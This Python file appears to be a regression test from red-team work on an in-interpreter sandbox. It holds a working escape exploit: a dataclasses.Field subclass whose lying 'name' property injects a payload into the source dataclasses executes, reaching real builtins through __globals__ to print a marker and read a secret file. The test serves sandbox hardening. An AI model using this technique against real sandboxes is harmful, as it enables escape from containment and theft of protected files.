# mypy: ignore-errors
# Technique: a plugin subclass of `dataclasses.Field` overrides the `name` slot with a
# property. Its setter lets dataclasses set the name once (so the write-once guard on
# `Field.name` sees nothing wrong), and its getter answers differently later: dataclasses
# reads `f.name` again and again while it writes the source of `__init__`, so one of those
# reads pastes guest text into the source it `exec`s, where no AST check applies and
# dunder attributes reach the real builtins. The trusted code trusted a public attribute
# of an object whose class the plugin wrote. Found in the fourth red-team pass of the
# in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the fix.
import dataclasses

from suaveplan import SuaveplanError, fs  # noqa: F401 - `fs` is named by the injected source

SECRET = ""
G = "_" * 2 + "globals" + "_" * 2
PAYLOAD = "x;print('SANDBOX-'+'ESCAPED');self.y=fs.read_text." + G + "['_b'].open(SECRET).read()"


def build(k):
    # Which read of `name` ends up in the body of `__init__` depends on the version: try a
    # few; the wrong ones only make dataclasses write source that does not compile.
    state = {"armed": False, "reads": 0}

    class LyingField(dataclasses.Field):
        def get_name(self):
            if state["armed"]:
                state["reads"] += 1
                if state["reads"] == k:
                    return PAYLOAD
            return self.real

        def set_name(self, value):
            self.real = value
            if value == "x":
                state["armed"] = True

        name = property(get_name, set_name)

    field = LyingField(
        dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False
    )

    @dataclasses.dataclass
    class Victim:
        x: int = field

    return Victim(1)


def attack(secret_path, canary_path):
    global SECRET
    SECRET = secret_path
    for k in range(1, 12):
        try:
            victim = build(k)
        except SuaveplanError:
            raise
        except Exception:  # a read that made malformed source
            continue
        leaked = getattr(victim, "y", None)
        if leaked is not None:
            return leaked
    return "contained"
